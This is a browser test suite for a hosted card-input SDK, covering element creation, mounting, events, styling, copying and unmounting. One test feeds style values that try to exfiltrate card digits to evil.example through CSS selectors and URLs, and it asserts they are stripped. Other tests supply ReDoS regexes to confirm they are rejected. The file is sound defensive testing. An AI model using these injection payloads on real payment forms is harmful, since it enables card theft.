// Every method, property, event and option of the published types, except those of typing and of services.

import assert from "node:assert/strict";

import { picture } from "./chromium.mjs";
import { add, attemptIn, changed, input, inside, SPLIT, suite, type, typeInto, waitEvent, withCheckout, withPage } from "./checkout.mjs";
import { ELEMENTS } from "./sites.mjs";
import { attempt, publicKey } from "./vault.mjs";

attempt("basistheory", "loads the client script from customDomain and returns every member", async () => {
  await withPage("/", {}, async (page) => {
    const members = await page.evaluate(() => window.start());
    const expected = ["client", "createElement", "device", "getElement", "hasElement", "init", "proxy", "sessions", "tokenIntents", "tokenize", "tokens"];
    assert.deepEqual(members.sort(), expected);
    assert.equal(await page.evaluate(() => window.bt === window.BasisTheoryElements), true);
    const script = await page.evaluate(() => document.querySelector("script[src*='client/index.js']").src);
    assert.equal(script, `https://${ELEMENTS}/web-elements/2.17.0/client/index.js`);
  });
});

attempt("createElement", "rejects unknown types, missing targets and wrong options", async () => {
  await withCheckout({}, {}, async (page) => {
    const thrown = (body) => page.evaluate(`(() => { try { (${body})(); return null; } catch (error) { return error.message; } })()`);
    assert.match(await thrown("() => bt.createElement('iban', { targetId: 'x' })"), /Unknown element type/);
    assert.match(await thrown("() => bt.createElement('data', { targetId: 'x' })"), /Unknown element type/);
    assert.match(await thrown("() => bt.createElement('text', {})"), /targetId/);
    assert.match(await thrown("() => bt.createElement('cardNumber', { targetId: 'x', coBadgedSupport: ['visa'] })"), /coBadgedSupport/);
    assert.match(await thrown("() => bt.createElement('text', { targetId: 'x' }).on('input', () => {})"), /Unknown event type/);
    assert.match(await thrown("() => bt.createElement('text', { targetId: 'x' }).clear()"), /not mounted/);
    assert.match(await thrown("() => bt.createElement('text', { targetId: 'x' }).focus()"), /not mounted/);
  });
});

attempt("mount", "resolves with ready, and rejects without a container, twice, and after unmount", async () => {
  await withCheckout({ text: ["text"] }, {}, async (page) => {
    await waitEvent(page, "text", "ready");
    assert.equal(await page.evaluate(() => window.elements.text.mounted), true);
    const rejected = (body) => attemptIn(page, body).then(({ error }) => error?.message);
    assert.match(await rejected("() => bt.createElement('text', { targetId: 'a' }).mount('#nowhere')"), /Unable to find/);
    assert.match(await rejected("() => elements.text.mount('#fields')"), /already mounted/);
    await page.evaluate(() => window.elements.text.unmount());
    assert.equal(await page.locator("#box-text iframe").count(), 0);
    assert.match(await rejected("() => elements.text.mount('#fields')"), /unmounted/);
    // An element instead of a selector.
    const { error } = await attemptIn(page, "() => bt.createElement('text', { targetId: 'b' }).mount(document.getElementById('box-text'))");
    assert.equal(error, undefined);
    assert.equal(await page.evaluate(() => window.bt.getElement("b").targetId), "b");
  });
});

attempt("mount", "rejects unsafe regular expressions", async () => {
  await withCheckout({}, {}, async (page) => {
    for (const source of ["(a+)+$", "(a|a)*$", "(\\w+\\s?)*$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(x)\\1"]) {
      const { error } = await attemptIn(
        page,
        "(source) => { document.getElementById('fields').innerHTML = '<div id=r></div>'; return bt.createElement('text', { targetId: 'r', validation: new RegExp(source) }).mount('#r'); }",
        source,
      );
      assert.equal(error?.name, "BasisTheoryConfigurationError", source);
    }
    for (const source of ["^\\d{3}-\\d{2}$", "^[^@]+@[^@]+\\.[a-z]{2,}$", "^(?:\\d{1,3}\\.){3}\\d{1,3}$", "^(a|b)?c$"]) {
      await page.evaluate(() => { document.getElementById("fields").innerHTML = ""; });
      await add(page, "ok", "text", { validation: { regex: source } });
    }
  });
});

attempt("mount", "rejects with an explanation if the key is unknown or private", async () => {
  const expected = ["Failed to load resource", "status of 401"];
  await withPage("/", { expected }, async (page) => {
    const mount = (key) =>
      attemptIn(
        page,
        `async (key) => {
          const bt = await basistheory(key, { customDomain: settings.ELEMENTS, disableTelemetry: true });
          document.getElementById('fields').innerHTML = '<div id="k"></div>';
          return bt.createElement('text', { targetId: 'k' }).mount('#k');
        }`,
        key,
      ).then(({ error }) => error);
    const unknown = await mount(`${publicKey.slice(0, -4)}aaaa`);
    assert.equal(unknown.name, "BasisTheoryConfigurationError");
    assert.match(unknown.message, /elements_sites/);
    const before = suite.sites.requests.length;
    const secret = await mount("key_test_us_pvt_1234567890");
    assert.match(secret.message, /public application/);
    assert.equal(suite.sites.requests.slice(before).some(({ pathname }) => pathname.includes("hosted-elements")), false);
  });
});

attempt("on", "reports focus, blur and listenable keys, until unsubscribed", async () => {
  await withCheckout({ number: ["cardNumber"], text: ["text"] }, {}, async (page) => {
    await type(page, "number", "42");
    assert.deepEqual(await waitEvent(page, "number", "focus"), { name: "number", type: "focus", targetId: "number" });
    await page.keyboard.press("Shift+Enter");
    const key = await waitEvent(page, "number", "keydown");
    assert.deepEqual(key, {
      name: "number", type: "keydown", targetId: "number", key: "Enter",
      altKey: false, ctrlKey: false, shiftKey: true, metaKey: false,
    });
    await page.keyboard.press("Escape");
    await page.waitForFunction(() => window.events.filter(({ type }) => type === "keydown").length === 2);
    await page.evaluate(() => window.elements.number.blur());
    const blur = await waitEvent(page, "number", "blur");
    assert.equal(blur.targetId, "number");
    const keys = await page.evaluate(() => window.events.filter(({ type }) => type === "keydown").map(({ key }) => key));
    assert.deepEqual(keys, ["Enter", "Escape"]);
    const calls = await page.evaluate(async () => {
      let calls = 0;
      const subscription = window.elements.text.on("focus", () => calls++);
      subscription.unsubscribe();
      window.elements.text.focus();
      await new Promise((resolve) => window.elements.text.on("focus", resolve));
      return calls;
    });
    assert.equal(calls, 0);
  });
});

attempt("focus", "and blur, clear and validate act on the input", async () => {
  await withCheckout({ number: ["cardNumber"] }, {}, async (page) => {
    await page.evaluate(() => window.elements.number.focus());
    await typeInto(page, inside(page, "number"), "4242");
    await changed(page, "number", { empty: false });
    await page.evaluate(() => window.elements.number.validate());
    await changed(page, "number", { errors: [{ targetId: "number", type: "incomplete" }] });
    await page.evaluate(() => window.elements.number.clear());
    await changed(page, "number", { empty: true, errors: [], cardBrand: "unknown" });
    assert.equal(await input(page, "number").inputValue(), "");
    await page.evaluate(() => window.elements.number.validate());
    await changed(page, "number", { errors: [{ targetId: "number", type: "incomplete" }] });
    const metadata = await page.evaluate(() => [window.elements.number.metadata, window.elements.number.cardMetadata]);
    assert.deepEqual(metadata, [
      { complete: false, valid: true, maskSatisfied: true, empty: true, errors: [{ targetId: "number", type: "incomplete" }] },
      { cardBrand: "unknown" },
    ]);
  });
});

attempt("update", "changes options, accepts those that are fixed, and rejects invalid ones", async () => {
  await withCheckout({ number: ["cardNumber"], text: ["text"] }, {}, async (page) => {
    await page.evaluate(() => window.elements.number.update({
      disabled: true, readOnly: true, placeholder: "Number", autoComplete: "cc-number", inputMode: "tel",
      "aria-label": "Your card", iconPosition: "right", style: { base: { color: "rgb(1, 2, 3)" } },
      cardTypes: [], mask: [/x/], targetId: "other", skipLuhnValidation: true,
    }));
    const number = input(page, "number");
    const found = await number.evaluate((node) => ({
      disabled: node.disabled, readOnly: node.readOnly, placeholder: node.placeholder, autocomplete: node.autocomplete,
      inputMode: node.inputMode, label: node.ariaLabel, color: getComputedStyle(node).color,
      icon: document.querySelector(".icon").classList.contains("right"),
    }));
    assert.deepEqual(found, {
      disabled: true, readOnly: true, placeholder: "Number", autocomplete: "cc-number", inputMode: "tel", label: "Your card",
      color: "rgb(1, 2, 3)", icon: true,
    });
    const { error } = await attemptIn(page, "() => elements.text.update({ validation: /(a+)+$/ })");
    assert.equal(error.name, "BasisTheoryConfigurationError");
    const ignored = await attemptIn(page, "() => elements.text.update({ placeholder: undefined, validation: undefined })");
    assert.equal(ignored.error, undefined);
  });
});

attempt("value", "static values of each element", async () => {
  const elements = {
    card: ["card", { value: { number: "4242424242424242", expiration_month: 12, expiration_year: 2031, cvc: "123" } }],
    date: ["cardExpirationDate", { value: { month: 3, year: 2031 } }],
    again: ["cardExpirationDate", { value: "04/31" }],
    text: ["text", { value: "Ada" }],
  };
  await withCheckout(elements, {}, async (page) => {
    assert.equal(await input(page, "card", "cardNumber").inputValue(), "4242 4242 4242 4242");
    assert.equal(await input(page, "card", "expirationDate").inputValue(), "12/31");
    assert.equal(await input(page, "date").inputValue(), "03/31");
    assert.equal(await input(page, "again").inputValue(), "04/31");
    assert.equal(await page.evaluate(() => window.elements.card.metadata.complete), true);
    await page.evaluate(() => window.elements.text.update({ value: "Grace" }));
    assert.equal(await input(page, "text").inputValue(), "Grace");
  });
});

attempt("style", "variants and pseudo-classes apply, and everything that could load or reveal is dropped", async () => {
  const style = {
    fonts: ["https://evil.example/font.css"],
    base: {
      color: "rgb(10, 20, 30)", fontSize: "20px", "::placeholder": { color: "rgb(40, 50, 60)" },
      background: "url(https://evil.example/a)", backgroundColor: "url(https://evil.example/b)",
      fontFamily: "x}} .input[value^='4']{background:url(https://evil.example/c)}", content: "'x'",
      "[value^='4']": { color: "red" }, ":has(a)": { color: "red" }, textShadow: "0 0 1px rgb(0,0,0)",
      letterSpacing: "var(--x)", lineHeight: "attr(value)",
    },
    invalid: { color: "rgb(200, 0, 0)" },
    complete: { color: "rgb(0, 120, 0)" },
    container: { padding: "8px", backgroundColor: "rgb(250, 250, 250)" },
  };
  const expected = ["Refused to apply"];
  await withCheckout({ number: ["cardNumber", { style }] }, { expected }, async (page) => {
    const number = input(page, "number");
    const look = () => number.evaluate((node) => {
      const { color, fontSize, backgroundImage, letterSpacing, textShadow } = getComputedStyle(node);
      return { color, fontSize, backgroundImage, letterSpacing, hasShadow: textShadow !== "none" };
    });
    const base = { color: "rgb(10, 20, 30)", fontSize: "20px", backgroundImage: "none", letterSpacing: "normal", hasShadow: true };
    assert.deepEqual(await look(), base);
    await type(page, "number", "4242424242424241");
    await number.blur();
    await changed(page, "number", { valid: false });
    assert.equal((await look()).color, "rgb(200, 0, 0)");
    await page.evaluate(() => window.elements.number.clear());
    await type(page, "number", "4242424242424242");
    await changed(page, "number", { complete: true });
    assert.equal((await look()).color, "rgb(0, 120, 0)");
    const rules = await number.evaluate(() => document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules]).map((rule) => rule.cssText).join("\n"));
    assert.ok(!/url\(|attr\(|var\(|\[value|content:|:has/.test(rules), rules);
  });
  assert.deepEqual(suite.sites.received, []);
});

attempt("copyButton", "copies the value of its source after a click, and reports click and copy", async () => {
  const settings = { options: { permissions: ["clipboard-read", "clipboard-write"] } };
  const elements = {
    number: ["cardNumber", { value: "4242424242424242", enableCopy: true, copyIconStyles: { size: "24px", color: "rgb(1, 2, 3)", successColor: "rgb(4, 5, 6)" } }],
    copy: ["copyButton", { text: "Copy number", style: { base: { backgroundColor: "rgb(9, 9, 9)", color: "rgb(255, 255, 255)" } } }],
  };
  await withCheckout(elements, settings, async (page) => {
    await page.evaluate(() => window.elements.copy.setValueRef(window.elements.number));
    const button = page.frameLocator("#box-copy iframe").getByRole("button", { name: "Copy number" });
    assert.equal(await button.evaluate((node) => getComputedStyle(node).backgroundColor), "rgb(9, 9, 9)");
    // Visibility is measured every 100 ms; a click before that is refused.
    await page.waitForFunction(async () => {
      return window.events.some(({ type }) => type === "ready");
    });
    await assertCopied(page, "copy", () => button.click());
    assert.deepEqual(await waitEvent(page, "copy", "click"), { name: "copy", type: "click", targetId: "copy" });
    const icon = page.frameLocator("#box-number iframe").getByRole("button");
    await assertCopied(page, "number", () => icon.click());
    await page.evaluate(() => window.elements.copy.update({ disabled: true, text: "Done" }));
    assert.equal(await button.count(), 0);
    await picture(page, "copy-button");
  });
});

/** Clicks until the value is copied: the frame must have been visible for a moment. */
async function assertCopied(page, name, click) {
  for (let tries = 0; tries < 50; tries++) {
    await click();
    const copied = await page.waitForFunction(
      (name) => window.events.some((event) => event.name === name && event.type === "copy"),
      name,
      { timeout: 300 },
    ).then(() => true, () => false);
    if (copied) {
      return;
    }
  }
  assert.fail(`${name} did not copy`);
}

attempt("setValueRef", "follows another element of the same type, live", async () => {
  await withCheckout({ name: ["text"], mirror: ["text", { readOnly: true }], ...SPLIT, again: ["cardNumber"] }, {}, async (page) => {
    await page.evaluate(() => {
      window.elements.mirror.setValueRef(window.elements.name);
      window.elements.again.setValueRef(window.elements.number);
      window.elements.code.setValueRef(window.elements.number);
    });
    await type(page, "name", "Ada");
    await changed(page, "mirror", { empty: false });
    assert.equal(await input(page, "mirror").inputValue(), "Ada");
    await type(page, "number", "4242424242424242");
    await page.keyboard.press("Tab");
    const event = await changed(page, "again", { complete: true, cardLast4: "4242" });
    assert.equal(event.cardBrand, "visa");
    // Another type is not followed.
    assert.equal(await input(page, "code").inputValue(), "");
    const thrown = await page.evaluate(() => {
      try { window.elements.name.setValueRef({ id: "x" }); return null; } catch (error) { return error.message; }
    });
    assert.match(thrown, /another element/);
  });
});

attempt("validateOnChange", "judges at every change", async () => {
  await withCheckout({ number: ["cardNumber", { validateOnChange: true }] }, {}, async (page) => {
    await type(page, "number", "424");
    await changed(page, "number", { errors: [{ targetId: "number", type: "incomplete" }] });
  });
});

attempt("title", "names the frame; autoComplete and placeholder of a card are given by input", async () => {
  const options = {
    title: "Card of the order",
    autoComplete: { number: "cc-number", expirationDate: "cc-exp", csc: "cc-csc" },
    placeholder: { cardNumber: "N", cardExpirationDate: "D", cardSecurityCode: "C" },
  };
  await withCheckout({ card: ["card", options] }, {}, async (page) => {
    assert.equal(await page.locator("#box-card iframe").getAttribute("title"), "Card of the order");
    const found = await page.frameLocator("#box-card iframe").locator("input.input").evaluateAll((nodes) =>
      nodes.map((node) => [node.id, node.autocomplete, node.placeholder, node.inputMode])
    );
    assert.deepEqual(found, [
      ["cardNumber", "cc-number", "N", "numeric"],
      ["expirationDate", "cc-exp", "D", "numeric"],
      ["cvc", "cc-csc", "C", "numeric"],
    ]);
  });
});

attempt("unmount", "wipes the value, and so does the removal of the container", async () => {
  await withCheckout({ a: ["text"], b: ["text"] }, {}, async (page) => {
    await type(page, "a", "alpha");
    await type(page, "b", "beta");
    await changed(page, "b", { empty: false });
    await page.evaluate(() => {
      window.gone = window.elements.a;
      window.elements.a.unmount();
      document.getElementById("box-b").remove();
    });
    for (const name of ["a", "b"]) {
      const { error } = await attemptIn(page, `() => bt.tokens.create({ type: 'token', data: elements.${name} })`);
      assert.match(error.message, /removed from the DOM/);
    }
    const thrown = await page.evaluate(() => {
      try { window.elements.b.clear(); return null; } catch (error) { return error.message; }
    });
    assert.match(thrown, /removed from the DOM/);
    // The same id again, as React does.
    await add(page, "a2", "text", { targetId: "a" });
  });
});

attempt("device", "getDeviceInfo returns what the browser says, and sends nothing", async () => {
  await withCheckout({}, {}, async (page) => {
    const before = suite.sites.requests.length;
    const info = await page.evaluate(() => window.bt.device.getDeviceInfo({ includeCanvasHash: true }));
    assert.ok(info.languages.length > 0 && info.timeZone && info.canvasHash && info.screenWidth > 0);
    assert.equal(suite.sites.requests.length, before);
  });
});

attempt("hasElement", "finds elements and wrappers at any depth", async () => {
  await withCheckout({ date: ["cardExpirationDate"] }, {}, async (page) => {
    const found = await page.evaluate(() => {
      const { date } = window.elements;
      return [date, { a: [{ b: date }] }, { a: date.month() }, { a: date.format("yyyy") }, { element: {} }, { a: "date" }, null]
        .map((payload) => window.BasisTheoryElements.hasElement(payload));
    });
    assert.deepEqual(found, [true, true, true, true, false, false, false]);
    assert.equal(await page.evaluate(() => JSON.stringify(window.elements.date)), '{"type":"cardExpirationDate","targetId":"date"}');
  });
});

attempt("speed", "the first field is interactive quickly once its files are cached", async () => {
  await withCheckout({ first: ["cardNumber"] }, {}, async (page) => {
    const times = [];
    for (let round = 0; round < 5; round++) {
      times.push(await page.evaluate(async (round) => {
        const started = performance.now();
        await window.add(`again${round}`, "cardNumber");
        return performance.now() - started;
      }, round));
    }
    const median = times.sort((a, b) => a - b)[2];
    console.log(`first field interactive after ${median.toFixed(0)} ms (target 300)`);
    // Loose: other suites may share the machine.
    assert.ok(median < 3_000, String(times));
  });
});
